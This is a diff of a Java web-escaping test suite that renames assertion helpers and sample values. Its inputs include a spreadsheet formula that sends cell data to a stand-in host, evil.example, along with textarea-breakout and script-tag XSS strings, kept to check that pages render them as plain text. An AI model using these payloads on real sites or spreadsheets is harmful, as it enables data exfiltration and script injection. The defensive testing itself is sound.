@@ -43,11 +43,11 @@ class PageEscapingTest {
     @RegisterExtension
     static final TestDatabase DATABASE = new TestDatabase();
 
-    private static final String EMAIL = "bold@plumbline.example";
+    private static final String EMAIL = "owner@plumbline.example";
     private static final String PASSWORD = "a long enough password";
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
     private static final List<String> LINES =
-            List.of("bad.example", "odd.example", "good.example", SampleModule.HOSTILE, FORMULA);
+            List.of("bad.example", "invalid.example", "good.example", SampleModule.HOSTILE, FORMULA);
 
     private final TlsServers tls = new TlsServers();
     private ServiceUnderTest service;
@@ -59,11 +59,11 @@ class PageEscapingTest {
         AccountAdministration accounts =
                 new AccountAdministration(DATABASE.open(), new PasswordHasher(DATABASE.vertx()));
         Await.value(accounts.create(AccountEmail.parse(EMAIL), Plan.PRO, PASSWORD));
-        service = SampleModule.servedBehindAProxy(folder, DATABASE);
+        service = SampleModule.startBehindProxy(folder, DATABASE);
         owner = new CookieClient(service);
         assertThat(owner.signIn(EMAIL, PASSWORD).statusCode()).isEqualTo(200);
         HttpResponse<String> created =
-                owner.bulk("bulk-tool", "made-up", "bulk-lines", String.join("\n", LINES), "label", "x");
+                owner.bulk("bulk-tool", "sample-module", "bulk-lines", String.join("\n", LINES), "label", "x");
         job = created.headers().firstValue("Location").orElseThrow();
         Await.until(() -> !page(job).select("[data-finished=true]").isEmpty());
     }
@@ -96,7 +96,7 @@ class PageEscapingTest {
     void linesAndResultsAreEscaped(String part) {
         Document page = page(job + part);
 
-        PlainTextAssert.isOn(page);
+        PlainTextAssert.assertPlainText(page);
         assertThat(page.select("#job-lines, #job-state")).hasSize(2);
     }
 
@@ -105,9 +105,12 @@ class PageEscapingTest {
         Document page = page(job);
 
         assertThat(page.select(".lines .input > a").eachText())
-                .containsExactly("bad.example", "odd.example", "good.example", PlainTextAssert.HOSTILE_SHOWN, FORMULA);
-        assertThat(page.select(".lines .input p").first().text()).isEqualTo("It says " + PlainTextAssert.HOSTILE_SHOWN);
-        assertThat(page.select(".lines tbody tr:nth-child(2) td").eachText()).contains(PlainTextAssert.HOSTILE_SHOWN);
+                .containsExactly(
+                        "bad.example", "invalid.example", "good.example", PlainTextAssert.HOSTILE_DISPLAYED, FORMULA);
+        assertThat(page.select(".lines .input p").first().text())
+                .isEqualTo("The text is " + PlainTextAssert.HOSTILE_DISPLAYED);
+        assertThat(page.select(".lines tbody tr:nth-child(2) td").eachText())
+                .contains(PlainTextAssert.HOSTILE_DISPLAYED);
     }
 
     @ParameterizedTest
@@ -115,7 +118,7 @@ class PageEscapingTest {
     void storedResultsAreEscaped(int index) {
         Document page = page(job + "/lines/" + index);
 
-        PlainTextAssert.isOn(page);
+        PlainTextAssert.assertPlainText(page);
         assertThat(page.select(".verdict")).hasSize(1);
     }
 
@@ -123,7 +126,7 @@ class PageEscapingTest {
     void chartsHaveOnlyDeclaredLabels() {
         Document page = page(job);
 
-        assertThat(page.select(".chart figcaption").eachText()).contains("Verdicts", "Look-up", "Some moment");
+        assertThat(page.select(".chart figcaption").eachText()).contains("Verdicts", "Lookup", "Sampled at");
         assertThat(page.select(".chart dt").eachText())
                 .allSatisfy(label -> assertThat(label).matches("Pass|Warning|Fail|Error|one|other|[0-9]+"));
         assertThat(page.select(".charts").text()).doesNotContain("script", "U+202E");
@@ -140,10 +143,10 @@ class PageEscapingTest {
                 "/tools?q=",
                 "/tools/",
                 "/check/http-status/",
-                "/check/made-up/",
+                "/check/sample-module/",
                 "/check/",
-                "/check/made-up/good.example?label=",
-                "/check/made-up/good.example?",
+                "/check/sample-module/good.example?label=",
+                "/check/sample-module/good.example?",
                 "/jobs?cursor=",
                 "/jobs/",
                 "/jobs/job_0/lines/",
@@ -162,10 +165,10 @@ class PageEscapingTest {
                         "Cookie",
                         path.startsWith("/sign-in") ? "none=0" : owner.cookie())
                 .body());
-        // a box holds what was typed, as it was typed
+        // the value of an input element is the submitted text
         page.select("input[value]").removeAttr("value");
 
-        PlainTextAssert.isOn(page);
+        PlainTextAssert.assertPlainText(page);
         assertThat(page.select("main")).hasSize(1);
     }
 
@@ -182,12 +185,12 @@ class PageEscapingTest {
 
     @Test
     void jobListAndFormAreEscaped() {
-        PlainTextAssert.isOn(page("/jobs"));
+        PlainTextAssert.assertPlainText(page("/jobs"));
         Document again = Jsoup.parse(
                 owner.form("/bulk", "bulk-lines", "</textarea><b>" + FORMULA + "\n".repeat(2) + "x".repeat(3000))
                         .body());
 
-        PlainTextAssert.isOn(again);
+        PlainTextAssert.assertPlainText(again);
         assertThat(again.select("main b")).isEmpty();
         assertThat(again.select("#bulk-lines").val()).startsWith("</textarea><b>" + FORMULA);
     }
@@ -240,7 +243,7 @@ class PageEscapingTest {
 
         Document page = page(report("http-status", "http://127.0.0.1:" + other + "/"));
 
-        PlainTextAssert.isOn(page);
+        PlainTextAssert.assertPlainText(page);
         assertThat(page.select("main [href]").eachAttr("href"))
                 .allSatisfy(href -> assertThat(href).doesNotStartWith("javascript:"));
         assertThat(page.select("#field-redirects .path > li").size()).isPositive();
@@ -256,7 +259,7 @@ class PageEscapingTest {
 
         Document page = page(report("ssl-certificate", "127.0.0.1:" + port));
 
-        PlainTextAssert.isOn(page);
+        PlainTextAssert.assertPlainText(page);
         assertThat(page.select("main").text()).contains("<script>alert(1)</script>[U+202E]gnp.exe[U+0007]");
     }
 }
